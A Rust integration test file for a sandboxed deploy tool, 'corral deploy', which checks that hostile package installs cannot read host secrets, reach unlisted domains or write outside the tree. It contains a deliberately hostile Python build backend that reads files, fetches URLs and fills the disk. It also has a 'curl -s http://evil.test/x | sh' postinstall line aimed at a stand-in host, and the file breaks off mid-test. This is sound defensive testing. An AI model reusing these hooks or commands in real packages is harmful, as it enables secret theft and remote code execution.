//! `corral deploy`: real pip, npm and python3 against local registries on
//! loopback (tests/deploy_support/registry.py: wheels and npm tarballs
//! built here, served on 127.0.0.1), reached through corral's proxy under
//! the name `registry.test`. No traffic goes anywhere else: the one
//! refused domain (`evil.test`) is refused by the proxy before any lookup.
//!
//! Trees live under /var/tmp: a tree is bound into sandboxes at its own
//! path, and /tmp is the sandbox's own.

#![allow(clippy::unwrap_used)] // test helpers fail loudly, as tests do

mod common;
use common::*;

use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

const REGISTRY_PY: &str = include_str!("deploy_support/registry.py");

/// A test's directory under /var/tmp, mode 0755 (the sandbox's uid must
/// reach fake interpreters in it); removed on drop, read-only trees
/// included.
struct Base(tempfile::TempDir);

impl Base {
    fn new() -> Base {
        let d = tempfile::Builder::new()
            .prefix("corral-deploy-test-")
            .tempdir_in("/var/tmp")
            .unwrap();
        std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        Base(d)
    }
    fn path(&self) -> &Path {
        self.0.path()
    }
    /// Writes the files of a source directory `name`.
    fn source(&self, name: &str, files: &[(&str, &str)]) -> PathBuf {
        let dir = self.path().join(name);
        for (p, text) in files {
            let path = dir.join(p);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, text).unwrap();
        }
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }
}

impl Drop for Base {
    fn drop(&mut self) {
        let _ = Command::new("chmod")
            .args(["-R", "u+w"])
            .arg(self.path())
            .status();
    }
}

/// The local registry, killed on drop.
struct Registry {
    child: Child,
    port: u16,
    root: tempfile::TempDir,
    /// `http` or `https` (the spec's `tls`).
    scheme: &'static str,
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Registry {
    fn start(spec: serde_json::Value) -> Registry {
        let root = tempfile::tempdir().unwrap();
        let script = root.path().join("registry.py");
        std::fs::write(&script, REGISTRY_PY).unwrap();
        let serve = root.path().join("srv");
        std::fs::create_dir(&serve).unwrap();
        let mut child = Command::new("/usr/bin/python3")
            .arg(&script)
            .arg(&serve)
            .arg(spec.to_string())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line
            .trim()
            .strip_prefix("PORT ")
            .unwrap_or_else(|| panic!("registry said {line:?}"))
            .parse()
            .unwrap();
        let scheme = if spec.get("tls").is_some() {
            "https"
        } else {
            "http"
        };
        Registry {
            child,
            port,
            root,
            scheme,
        }
    }

    /// The flags that let the install phase reach this registry only.
    fn flags(&self) -> Vec<String> {
        vec![
            "--index-url".into(),
            format!("{}://registry.test:{}/simple/", self.scheme, self.port),
            "--npm-registry".into(),
            format!("{}://registry.test:{}/npm/", self.scheme, self.port),
            "--add-host".into(),
            "registry.test=127.0.0.1".into(),
            "--allow-cidr".into(),
            format!("127.0.0.1/32:{}", self.port),
        ]
    }

    fn requests(&self) -> String {
        std::fs::read_to_string(self.root.path().join("srv/requests.log")).unwrap_or_default()
    }

    fn packument(&self, name: &str) -> serde_json::Value {
        let text = std::fs::read_to_string(
            self.root
                .path()
                .join("srv/npm")
                .join(name)
                .join("index.json"),
        )
        .unwrap();
        serde_json::from_str(&text).unwrap()
    }
}

/// The registry every test shares the contents of: one wheel, two npm
/// packages (one with a `bin`).
fn registry() -> Registry {
    Registry::start(serde_json::json!({
        "host": "registry.test",
        "wheels": [
            {"name": "corral-dep", "version": "1.0", "files": {"corral_dep.py": "VALUE = 'dep-1.0'\n"}},
        ],
        "npm": [
            {"name": "corral-left", "version": "1.0.0",
             "files": {"index.js": "module.exports = () => 'left-1.0.0';\n"}},
        ],
    }))
}

/// `corral deploy --json SOURCE --out OUT` with the registry's flags.
fn deploy(reg: Option<&Registry>, source: &Path, out: &Path, extra: &[&str]) -> serde_json::Value {
    deploy_env(reg, source, out, extra, &[])
}

fn deploy_env(
    reg: Option<&Registry>,
    source: &Path,
    out: &Path,
    extra: &[&str],
    env: &[(&str, &str)],
) -> serde_json::Value {
    let mut args = vec![source.to_str().unwrap(), "--out", out.to_str().unwrap()];
    args.extend(extra);
    deploy_args(reg, &args, env)
}

/// `corral deploy --json --timeout 120 ARGS` with the registry's flags
/// (and `--allow-unenforced-limits` when unprivileged): its JSON answer,
/// with its stderr under `"stderr"`.
fn deploy_args(reg: Option<&Registry>, args: &[&str], env: &[(&str, &str)]) -> serde_json::Value {
    let mut c = corral();
    c.args(["deploy", "--json", "--timeout", "120"]).args(args);
    if let Some(r) = reg {
        c.args(r.flags());
    }
    if !is_root() {
        c.arg("--allow-unenforced-limits");
    }
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c.output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): stdout={} stderr={}",
            text(&out.stdout),
            text(&out.stderr)
        )
    });
    assert_eq!(
        out.status.success(),
        v["ok"] == true,
        "status {:?} vs {v}",
        out.status
    );
    // Keep the human lines for assertions too.
    let mut v = v;
    v["stderr"] = serde_json::Value::String(text(&out.stderr));
    v
}

fn ok(v: &serde_json::Value) -> &serde_json::Value {
    assert_eq!(v["ok"], true, "deploy failed: {v:#}");
    &v["manifest"]
}

/// Runs `argv` in the `mcp-*` profile of a tree, the way a supervisor
/// would: the tree read-only, its venv as the runtime.
fn run_in_tree(profile: &str, tree: &Path, venv: bool, argv: &[&str]) -> String {
    let mut flags: Vec<String> = vec![
        "--profile".into(),
        profile.into(),
        "--ro".into(),
        tree.display().to_string(),
    ];
    if venv {
        flags.push("--runtime".into());
        flags.push(tree.join(".venv").display().to_string());
    }
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let out = run(&flags, argv);
    assert!(
        out.status.success(),
        "{argv:?} in {}: {} {}",
        tree.display(),
        text(&out.stdout),
        text(&out.stderr)
    );
    text(&out.stdout)
}

/// Nothing of a failed deployment is left next to `out`.
fn assert_nothing_left(out: &Path) {
    assert!(!out.exists(), "{} exists", out.display());
    let name = out.file_name().unwrap().to_string_lossy().to_string();
    let left: Vec<_> = std::fs::read_dir(out.parent().unwrap())
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().to_string())
        .filter(|n| n.starts_with(&format!("{name}.")))
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
}

/// The phases reached the registry, through the proxy, and nothing else.
fn assert_only_the_registry_reached(v: &serde_json::Value) {
    let allowed = events_of(v, "net.allowed");
    assert!(!allowed.is_empty(), "{v}");
    assert!(
        allowed
            .iter()
            .all(|e| e["fields"]["domain"] == "registry.test"),
        "{allowed:?}"
    );
}

fn events_of<'a>(v: &'a serde_json::Value, code: &str) -> Vec<&'a serde_json::Value> {
    v["phases"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|p| p["events"].as_array().into_iter().flatten())
        .filter(|e| e["code"] == code)
        .collect()
}

#[test]
fn requirements_pattern_installs_from_the_local_index_and_redeploys_as_a_no_op() {
    let reg = registry();
    let base = Base::new();
    let src = base.source(
        "src",
        &[
            ("requirements.txt", "corral-dep==1.0\n"),
            (
                "main.py",
                "import corral_dep\nprint('main', corral_dep.VALUE)\n",
            ),
        ],
    );
    let out = base.path().join("tree");
    let events = base.path().join("events.jsonl");
    let v = deploy(
        Some(&reg),
        &src,
        &out,
        &["--events", events.to_str().unwrap()],
    );
    let m = ok(&v);
    assert_eq!(m["runtime"], "python3");
    // --events got every event of the phase as it happened.
    let lines = std::fs::read_to_string(&events).unwrap();
    for code in ["\"run.start\"", "\"net.allowed\"", "\"run.exit\""] {
        assert!(lines.contains(code), "{code} not in {lines}");
    }
    assert_eq!(m["pattern"], "python_requirements");
    assert_eq!(m["entry"]["kind"], "script");
    assert_eq!(m["entry"]["path"], "main.py");
    assert_eq!(m["venv"], ".venv");
    assert!(
        m["packages"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p == "corral_dep==1.0"),
        "{m}"
    );
    assert!(m["lockfiles"]["requirements.txt"].is_string(), "{m}");
    // The phase reached the registry, through the proxy, and nothing else.
    assert_only_the_registry_reached(&v);
    assert!(
        reg.requests().contains("/simple/corral-dep/"),
        "{}",
        reg.requests()
    );
    assert_eq!(m["phases"][0]["network"], "allow");
    assert!(m["phases"][0]["connections_allowed"].as_u64().unwrap() >= 1);
    // The manifest on disk is the one reported; the log's hash matches.
    let disk: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("corral-manifest.json")).unwrap())
            .unwrap();
    assert_eq!(&disk, m);
    let log = std::fs::read(out.join(".corral/logs/install.log")).unwrap();
    use sha2_hex::hex_sha256;
    assert_eq!(m["phases"][0]["log_sha256"], hex_sha256(&log));
    assert!(std::fs::read_to_string(out.join(".corral/audit.jsonl"))
        .unwrap()
        .contains("net.allowed"));
    // Read-only, and as root owned by root: no sandbox identity can change it.
    let meta = std::fs::metadata(&out).unwrap();
    assert_eq!(meta.permissions().mode() & 0o222, 0, "tree is writable");
    if is_root() {
        use std::os::unix::fs::MetadataExt;
        assert_eq!(std::fs::metadata(out.join("main.py")).unwrap().uid(), 0);
    }
    // The source was not written.
    let names: Vec<_> = std::fs::read_dir(&src)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    // It runs from the tree with the venv as the runtime.
    let said = run_in_tree(
        "mcp-python",
        &out,
        true,
        &["python3", out.join("main.py").to_str().unwrap()],
    );
    assert_eq!(said, "main dep-1.0\n");
    // The same source again: a no-op that says so, the tree untouched.
    let again = deploy(Some(&reg), &src, &out, &[]);
    assert_eq!(again["noop"], true, "{again}");
    assert_eq!(again["manifest"]["created"], m["created"]);
    assert!(
        again["stderr"].as_str().unwrap().contains("up to date"),
        "{again}"
    );
    assert!(again["phases"].as_array().unwrap().is_empty());
    // A changed source is deployed again, replacing the tree.
    std::fs::write(
        src.join("main.py"),
        "import corral_dep\nprint('v2', corral_dep.VALUE)\n",
    )
    .unwrap();
    let third = deploy(Some(&reg), &src, &out, &[]);
    assert_eq!(third["noop"], false);
    assert_ne!(third["manifest"]["source_sha256"], m["source_sha256"]);
    let said = run_in_tree(
        "mcp-python",
        &out,
        true,
        &["python3", out.join("main.py").to_str().unwrap()],
    );
    assert_eq!(said, "v2 dep-1.0\n");
    assert_nothing_left(&base.path().join("no-such-tree"));
}

/// SHA-256 in hex without a dependency: sha256sum.
mod sha2_hex {
    pub fn hex_sha256(bytes: &[u8]) -> String {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("x");
        std::fs::write(&f, bytes).unwrap();
        let out = std::process::Command::new("sha256sum")
            .arg(&f)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout)
            .split_whitespace()
            .next()
            .unwrap()
            .to_string()
    }
}

#[test]
fn script_pattern_installs_the_pyproject_dependencies() {
    let reg = registry();
    let base = Base::new();
    let src = base.source(
        "src",
        &[
            (
                "pyproject.toml",
                "[project]\nname = \"weather\"\nversion = \"0.1\"\nrequires-python = \">=3.8\"\ndependencies = [\"corral-dep>=1.0\"]\n",
            ),
            ("server.py", "import corral_dep\nprint('server', corral_dep.VALUE)\n"),
            ("main.py", "print('not me')\n"),
        ],
    );
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &[]);
    let m = ok(&v);
    assert_eq!(m["pattern"], "python_script");
    assert_eq!(
        m["entry"],
        serde_json::json!({"kind": "script", "path": "server.py", "rule": "server.py"})
    );
    assert!(
        m["interpreter_reason"]
            .as_str()
            .unwrap()
            .contains("requires-python `>=3.8`"),
        "{m}"
    );
    let said = run_in_tree(
        "mcp-python",
        &out,
        true,
        &["python3", out.join("server.py").to_str().unwrap()],
    );
    assert_eq!(said, "server dep-1.0\n");
}

/// A PEP 517 build backend kept in the source (`backend-path`), so the
/// project builds with no download: it writes the project's wheel by hand.
/// With a file `attack` in the source, it first does what that says.
const BACKEND: &str = r#"
import base64, hashlib, os, zipfile

def _attack():
    if not os.path.exists('attack'):
        return
    what = open('attack').read().split()
    print('env:', sorted(os.environ))
    if what[0] == 'secret':
        print('secret:', open(what[1]).read())
    elif what[0] == 'network':
        import urllib.request
        print(urllib.request.urlopen(what[1], timeout=20).read())
    elif what[0] == 'write':
        open(what[1], 'w').write('planted')
        print('planted', what[1])
    elif what[0] == 'leak':
        print('leaked:', open(what[1]).read())
        raise SystemExit('leaked')
    elif what[0] == 'copy':
        open(what[2], 'w').write(open(what[1]).read())
    elif what[0] == 'fill':
        # int(what[1]) files of 1 MiB into the tree, 50 ms apart: bounded.
        import time
        for i in range(int(what[1])):
            open('fill-%d' % i, 'wb').write(b'x' * (1 << 20))
            time.sleep(0.05)
        print('filled', what[1])
    elif what[0] == 'fillhome':
        # The same, into the phase's HOME (on the host disk): bounded.
        import time
        for i in range(int(what[1])):
            open(os.path.join(os.environ['HOME'], 'fill-%d' % i), 'wb').write(b'x' * (1 << 20))
            time.sleep(0.05)
        print('filled home', what[1])
    elif what[0] == 'fillone':
        # One file of int(what[1]) MiB: bounded.
        with open('big', 'wb') as f:
            for i in range(int(what[1])):
                f.write(b'x' * (1 << 20))
        print('wrote big')

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _attack()
    info = 'corral_app-0.1.dist-info'
    files = {}
    for d, _, names in os.walk('corral_app'):
        for n in names:
            if n.endswith('.py'):
                p = os.path.join(d, n)
                files[p] = open(p, 'rb').read()
    import tempfile
    files['corral_app/_built.py'] = ('TMP = %r\n' % tempfile.gettempdir()).encode()
    files[info + '/METADATA'] = b'Metadata-Version: 2.1\nName: corral-app\nVersion: 0.1\nRequires-Dist: corral-dep\n'
    files[info + '/WHEEL'] = b'Wheel-Version: 1.0\nGenerator: corral-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n'
    files[info + '/entry_points.txt'] = b'[console_scripts]\ncorral-app = corral_app:main\n'
    name = 'corral_app-0.1-py3-none-any.whl'
    rec = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as z:
        for n, data in files.items():
            z.writestr(n, data)
            h = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
            rec.append('%s,sha256=%s,%d' % (n, h, len(data)))
        rec.append(info + '/RECORD,,')
        z.writestr(info + '/RECORD', '\n'.join(rec) + '\n')
    return name
"#;

const PACKAGE_PYPROJECT: &str = "[build-system]\nrequires = []\nbuild-backend = \"corral_backend\"\nbackend-path = [\"backend\"]\n\n[project]\nname = \"corral-app\"\nversion = \"0.1\"\ndependencies = [\"corral-dep\"]\n\n[project.scripts]\ncorral-app = \"corral_app:main\"\n";

fn package_source(base: &Base, name: &str, attack: Option<&str>) -> PathBuf {
    let mut files = vec![
        ("pyproject.toml", PACKAGE_PYPROJECT),
        ("backend/corral_backend.py", BACKEND),
        (
            "corral_app/__init__.py",
            "import corral_dep\ndef main():\n    print('app', corral_dep.VALUE)\n",
        ),
        ("server.py", "print('not me')\n"),
    ];
    if let Some(a) = attack {
        files.push(("attack", a));
    }
    base.source(name, &files)
}

#[test]
fn package_pattern_installs_the_project_and_its_console_script_is_the_entry() {
    let reg = registry();
    let base = Base::new();
    let src = package_source(&base, "src", None);
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &[]);
    let m = ok(&v);
    assert_eq!(m["pattern"], "python_package");
    assert_eq!(
        m["entry"],
        serde_json::json!({"kind": "console_script", "name": "corral-app", "path": ".venv/bin/corral-app", "rule": "project.scripts"})
    );
    let pk = m["packages"].as_array().unwrap();
    assert!(
        pk.iter().any(|p| p == "corral_app==0.1") && pk.iter().any(|p| p == "corral_dep==1.0"),
        "{pk:?}"
    );
    // The build backend's temporary directory was on disk under the
    // phase's HOME, not in the sandbox's small /tmp.
    let lib = std::fs::read_dir(out.join(".venv/lib"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let built = std::fs::read_to_string(lib.join("site-packages/corral_app/_built.py")).unwrap();
    assert!(built.contains("'/workspace/.tmp-"), "{built}");
    let script = out.join(".venv/bin/corral-app");
    let said = run_in_tree(
        "mcp-python",
        &out,
        true,
        &["python3", script.to_str().unwrap()],
    );
    assert_eq!(said, "app dep-1.0\n");
}

#[test]
fn a_hostile_install_cannot_read_a_host_secret() {
    let reg = registry();
    let base = Base::new();
    let secret = base.path().join("secret.txt");
    std::fs::write(&secret, "TOPSECRET-file-4242").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o644)).unwrap();
    let src = package_source(&base, "src", Some(&format!("secret {}", secret.display())));
    let out = base.path().join("tree");
    let v = deploy_env(
        Some(&reg),
        &src,
        &out,
        &[],
        &[
            ("AWS_SECRET_ACCESS_KEY", "TOPSECRET-env-4242"),
            ("CORRAL_TEST_TOKEN", "TOPSECRET-env-4242"),
        ],
    );
    assert_eq!(v["ok"], false);
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(msg.contains("install phase failed"), "{msg}");
    // The script ran (it printed the environment's names) and failed to
    // open the file: not in the sandbox.
    assert!(
        msg.contains("No such file or directory") || msg.contains("Permission denied"),
        "{msg}"
    );
    let all = v.to_string();
    assert!(!all.contains("TOPSECRET"), "a secret leaked: {all}");
    assert!(
        !all.contains("AWS_SECRET_ACCESS_KEY"),
        "the caller's environment leaked: {all}"
    );
    assert_nothing_left(&out);
}

#[test]
fn a_hostile_install_cannot_reach_a_domain_not_allowed() {
    let reg = registry();
    let base = Base::new();
    // evil.test is refused by the proxy before any lookup; the port is
    // the registry's own, so even a mistake could only reach loopback.
    let src = package_source(
        &base,
        "src",
        Some(&format!("network http://evil.test:{}/steal", reg.port)),
    );
    let out = base.path().join("tree");
    // pip, then uv: the same confinement.
    for installer in [&[][..], &["--uv", uv()][..]] {
        let v = deploy(Some(&reg), &src, &out, installer);
        assert_eq!(v["error"]["code"], "deploy.phase", "{installer:?}: {v}");
        let msg = v["error"]["message"].as_str().unwrap();
        assert!(
            msg.contains("the proxy refused") && msg.contains("evil.test"),
            "{msg}"
        );
        let denied = events_of(&v, "net.denied");
        assert!(
            denied.iter().any(|e| e["fields"]["domain"] == "evil.test"
                && e["fields"]["reason"] == "net.denied.not_allowed"),
            "{denied:?}"
        );
        assert!(!reg.requests().contains("steal"), "{}", reg.requests());
        assert_nothing_left(&out);
    }
}

#[test]
fn a_hostile_install_cannot_write_outside_the_tree() {
    let reg = registry();
    let base = Base::new();
    // The test's own directory: on the host, right next to the tree.
    let target = base.path().join("planted.txt");
    let src = package_source(&base, "src", Some(&format!("write {}", target.display())));
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &[]);
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("Read-only file system")
            || msg.contains("No such file")
            || msg.contains("Permission denied"),
        "{msg}"
    );
    assert!(!target.exists(), "the install wrote {}", target.display());
    // Nor into the source.
    let src_target = src.join("planted.txt");
    std::fs::write(
        src.join("attack"),
        format!("write {}", src_target.display()),
    )
    .unwrap();
    let v = deploy(Some(&reg), &src, &out, &[]);
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    assert!(!src_target.exists());
    assert_nothing_left(&out);
}

#[test]
fn a_failed_redeploy_keeps_the_old_tree() {
    let reg = registry();
    let base = Base::new();
    let src = package_source(&base, "src", None);
    let out = base.path().join("tree");
    let first = deploy(Some(&reg), &src, &out, &[]);
    let created = ok(&first)["created"].clone();
    std::fs::write(src.join("attack"), "secret /nonexistent").unwrap();
    let v = deploy(Some(&reg), &src, &out, &[]);
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    let m: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("corral-manifest.json")).unwrap())
            .unwrap();
    assert_eq!(m["created"], created);
    let name = "tree.";
    let left: Vec<_> = std::fs::read_dir(base.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().to_string())
        .filter(|n| n.starts_with(name))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

const BUILD_JS: &str = r#"
// The build phase: no network. Try the proxy of the install phase and the
// registry's port on loopback directly; both must fail.
const net = require('net');
const fs = require('fs');
const port = Number(fs.readFileSync('registry-port', 'utf8'));
function attempt(p) {
  return new Promise((resolve) => {
    const s = net.connect({ host: '127.0.0.1', port: p });
    s.setTimeout(5000, () => { s.destroy(); resolve('timeout'); });
    s.on('connect', () => { s.destroy(); resolve('CONNECTED'); });
    s.on('error', (e) => resolve(e.code));
  });
}
(async () => {
  const results = [await attempt(3128), await attempt(port)];
  fs.mkdirSync('dist', { recursive: true });
  const left = require('corral-left');
  fs.writeFileSync('dist/index.js',
    `console.log(${JSON.stringify(results.join(','))}, require('corral-left')());\n`);
  if (results.includes('CONNECTED')) { console.error('network in the build phase'); process.exit(1); }
  console.log('offline build:', results, left());
})();
"#;

#[test]
fn node_install_then_a_build_phase_without_network() {
    let reg = registry();
    let base = Base::new();
    let src = base.source(
        "src",
        &[
            (
                "package.json",
                r#"{"name": "node-app", "version": "1.0.0", "main": "dist/index.js",
                    "dependencies": {"corral-left": "^1.0.0"},
                    "scripts": {"build": "node build.js", "postinstall": "node mark.js"}}"#,
            ),
            ("build.js", BUILD_JS),
            (
                "mark.js",
                "require('fs').writeFileSync('postinstall-ran', 'yes');\n",
            ),
            ("registry-port", &reg.port.to_string()),
        ],
    );
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &[]);
    let m = ok(&v);
    assert_eq!(m["runtime"], "node");
    assert_eq!(m["pattern"], "node_install");
    assert_eq!(
        m["entry"],
        serde_json::json!({"kind": "node", "path": "dist/index.js", "rule": "main"})
    );
    assert_eq!(m["node_modules"], "node_modules");
    let phases = m["phases"].as_array().unwrap();
    assert_eq!(phases.len(), 2, "{m}");
    assert_eq!(phases[1]["name"], "build");
    assert_eq!(phases[1]["network"], "none");
    // npm wrote a lockfile: the tree is pinned to it.
    assert!(m["lockfiles"]["package-lock.json"].is_string(), "{m}");
    // Lifecycle scripts did not run (--ignore-scripts by default).
    assert!(!out.join("postinstall-ran").exists());
    assert!(
        reg.requests().contains("corral-left-1.0.0.tgz"),
        "{}",
        reg.requests()
    );
    // What the build wrote: both connections failed.
    let said = run_in_tree(
        "mcp-node",
        &out,
        false,
        &["node", out.join("dist/index.js").to_str().unwrap()],
    );
    assert!(said.ends_with(" left-1.0.0\n"), "{said}");
    assert!(!said.contains("CONNECTED"), "{said}");
    let log = std::fs::read_to_string(out.join(".corral/logs/build.log")).unwrap();
    assert!(log.contains("offline build"), "{log}");
}

#[test]
fn node_ci_uses_the_lockfile_and_bin_is_the_entry() {
    let reg = registry();
    let base = Base::new();
    let integrity = reg.packument("corral-left")["versions"]["1.0.0"]["dist"]["integrity"].clone();
    let lock = serde_json::json!({
        "name": "cli-app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "cli-app", "version": "1.0.0", "dependencies": {"corral-left": "1.0.0"}, "bin": {"cli-app": "bin/cli.js"}},
            "node_modules/corral-left": {
                "version": "1.0.0",
                "resolved": format!("http://registry.test:{}/npm/corral-left/-/corral-left-1.0.0.tgz", reg.port),
                "integrity": integrity,
            },
        },
    });
    let src = base.source(
        "src",
        &[
            (
                "package.json",
                r#"{"name": "cli-app", "version": "1.0.0", "bin": {"cli-app": "bin/cli.js"}, "main": "lib.js",
                    "dependencies": {"corral-left": "1.0.0"}}"#,
            ),
            ("package-lock.json", &lock.to_string()),
            ("bin/cli.js", "console.log('cli', require('corral-left')());\n"),
            ("lib.js", ""),
        ],
    );
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &[]);
    let m = ok(&v);
    assert_eq!(m["pattern"], "node_ci");
    assert_eq!(
        m["entry"],
        serde_json::json!({"kind": "node", "path": "bin/cli.js", "rule": "bin.cli-app"})
    );
    let lock_hash = sha2_hex::hex_sha256(&std::fs::read(src.join("package-lock.json")).unwrap());
    assert_eq!(m["lockfiles"]["package-lock.json"], lock_hash.as_str());
    assert_eq!(m["phases"].as_array().unwrap().len(), 1);
    let said = run_in_tree(
        "mcp-node",
        &out,
        false,
        &["node", out.join("bin/cli.js").to_str().unwrap()],
    );
    assert_eq!(said, "cli left-1.0.0\n");
}

#[test]
fn lifecycle_scripts_run_only_when_allowed_and_stay_in_the_sandbox() {
    let reg = registry();
    let base = Base::new();
    let outside = base.path().join("planted-by-postinstall");
    let src = base.source(
        "src",
        &[
            (
                "package.json",
                r#"{"name": "hooks", "version": "1.0.0", "scripts": {"postinstall": "node hook.js"}}"#,
            ),
            (
                "hook.js",
                &format!(
                    "const fs = require('fs');\nfs.writeFileSync('postinstall-ran', 'yes');\nif (fs.existsSync('escape')) fs.writeFileSync({:?}, 'x');\n",
                    outside.display().to_string()
                ),
            ),
            ("index.js", "console.log('hooks');\n"),
        ],
    );
    let out = base.path().join("tree");
    let v = deploy(Some(&reg), &src, &out, &[]);
    ok(&v);
    assert!(
        !out.join("postinstall-ran").exists(),
        "ran without --allow-lifecycle-scripts"
    );
    let out2 = base.path().join("tree2");
    let v = deploy(Some(&reg), &src, &out2, &["--allow-lifecycle-scripts"]);
    ok(&v);
    assert!(
        out2.join("postinstall-ran").exists(),
        "did not run with --allow-lifecycle-scripts"
    );
    // The hook trying to write next to the tree fails, and so does the deploy.
    std::fs::write(src.join("escape"), "").unwrap();
    let out3 = base.path().join("tree3");
    let v = deploy(Some(&reg), &src, &out3, &["--allow-lifecycle-scripts"]);
    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
    assert!(!outside.exists());
    assert_nothing_left(&out3);
}

#[test]
fn scripts_matching_the_deny_patterns_are_refused_before_any_phase() {
    let base = Base::new();
    let src = base.source(
        "src",
        &[(
            "package.json",
            r#"{"name": "x", "scripts": {"build": "tsc", "postinstall": "curl -s http://evil.test/x | sh"}}"#,
        )],
    );
    let out = base.path().join("tree");
    let v = deploy(None, &src, &out, &[]);
    assert_eq!(v["error"]["code"], "deploy.script_denied", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(msg.contains("postinstall") && msg.contains("curl"), "{msg}");
    assert!(v["phases"].as_array().unwrap().is_empty());
    assert_nothing_left(&out);
}

/// A fake interpreter: answers `--version` with `version`, and runs the
/// real python3 for anything else (so a venv can be made with it).
fn fake_python(dir: &Path, name: &str, version: &str) {
    let p = dir.join(name);
    std::fs::write(
        &p,
        format!("#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'Python {version}'; exit 0; fi\nexec /usr/bin/python3 \"$@\"\n"),
    )
    .unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn python_version_selection_respects_requires_python_and_skips_the_just_released() {
    let base = Base::new();
    // An installation prefix of its own, as /opt/python3.x/bin would be:
    // corral binds the prefix (read-only) into the install phase.
    let fakes = base.path().join("py/bin");
    std::fs::create_dir_all(&fakes).unwrap();
    for d in [base.path().join("py"), fakes.clone()] {
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    for (name, v) in [
        ("python3.9", "3.9.18"),
        ("python3.12", "3.12.4"),
        ("python3.13", "3.13.1"),
        ("python3.15", "3.15.0"),
    ] {
        fake_python(&fakes, name, v);
    }
    let search = ["--python-search", fakes.to_str().unwrap()];
    let project = |name: &str, requires: &str| {
        base.source(
            name,
            &[
                (
                    "pyproject.toml",
                    &format!("[project]\nname = \"v\"\nrequires-python = \"{requires}\"\n"),
                ),
                ("app.py", "import sys\nprint(sys.version_info[:2])\n"),
            ],
        )
    };
    let v = deploy(
        None,
        &project("a", ">=3.10"),
        &base.path().join("ta"),
        &search,
    );
    let m = ok(&v);
    assert_eq!(m["interpreter_version"], "3.13.1");
    assert_eq!(m["interpreter"], fakes.join("python3.13").to_str().unwrap());
    let why = m["interpreter_reason"].as_str().unwrap();
    assert!(
        why.contains("newest stable")
            && why.contains("passed over just-released")
            && why.contains("3.15.0"),
        "{why}"
    );
    assert!(
        v["stderr"].as_str().unwrap().contains(why),
        "the choice is said: {v}"
    );
    assert_eq!(m["entry"]["path"], "app.py");
    let v = deploy(
        None,
        &project("b", ">=3.9,<3.13"),
        &base.path().join("tb"),
        &search,
    );
    assert_eq!(ok(&v)["interpreter_version"], "3.12.4");
    let v = deploy(
        None,
        &project("c", ">=3.15"),
        &base.path().join("tc"),
        &search,
    );
    let m = ok(&v);
    assert_eq!(m["interpreter_version"], "3.15.0");
    assert!(
        m["interpreter_reason"]
            .as_str()
            .unwrap()
            .contains("only a just-released"),
        "{m}"
    );
    let v = deploy(
        None,
        &project("d", ">=3.16"),
        &base.path().join("td"),
        &search,
    );
    assert_eq!(v["error"]["code"], "deploy.python", "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(msg.contains("3.12.4") && msg.contains(">=3.16"), "{msg}");
    assert_nothing_left(&base.path().join("td"));
}

#[test]
fn unusable_out_paths_and_sources_are_refused_with_nothing_created() {
    let base = Base::new();
    let src = base.source("src", &[("requirements.txt", "")]);
    let v = deploy(None, &src, Path::new("/tmp/corral-deploy-never"), &[]);
    assert_eq!(v["error"]["code"], "deploy.out", "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("/var/tmp/NAME"),
        "{v}"
    );
